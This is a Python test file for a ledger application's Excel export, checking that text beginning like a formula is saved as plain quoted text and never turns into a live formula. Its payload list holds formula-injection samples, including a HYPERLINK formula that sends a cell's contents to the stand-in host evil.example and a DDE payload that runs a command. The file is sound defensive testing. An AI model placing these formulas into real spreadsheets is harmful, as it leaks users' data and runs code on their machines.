"""No live formula leaves the product in a spreadsheet (issue 10, item 6): exported text that starts like a
formula stays text, and the problem report never turns an uploaded sheet's name into a formula."""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from yixie.ledger.excel import export_workbook
from yixie.ledger.excel.report import RowError, errors_workbook
from yixie.ledger.models import LedgerEvent
from yixie.ledger.tests.test_excel import GOV, run, saved
from yixie.testing.factories import establish

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _cells(ws):
    return [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.django_db
def test_exported_text_that_looks_like_a_formula_stays_text_and_comes_back(city):
    for i, payload in enumerate(PAYLOADS):
        establish(city.city, name=f"市测试{i}领导小组", lead=city.fgw, duties=payload, aliases=[payload[:20]])
    rows = LedgerEvent.objects.filter(is_void=False).order_by("name")
    wb = load_workbook(saved(export_workbook(rows, on=rows[0].effective_on.today())))
    risky = [c for c in _cells(wb[GOV]) if c.value.startswith(("=", "+", "-", "@"))]
    assert len(risky) >= 2 * len(PAYLOADS)
    for c in risky:
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    assert {c.value for c in risky} >= set(PAYLOADS)  # the text itself is kept as it was
    report = run(saved(wb), city)
    assert report.ok, report.lines()
    assert report.unchanged == len(PAYLOADS) and not report.changes


def test_the_problem_report_never_writes_a_formula():
    errors = [RowError(payload, 3, payload, f"{payload}") for payload in PAYLOADS]
    wb = load_workbook(saved(errors_workbook(errors)))
    ws = wb.active
    cells = _cells(ws)[4:]  # after the header row
    assert cells and all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells if c.value.startswith(("=", "+", "-", "@")))
    assert ws["A2"].value == PAYLOADS[0]
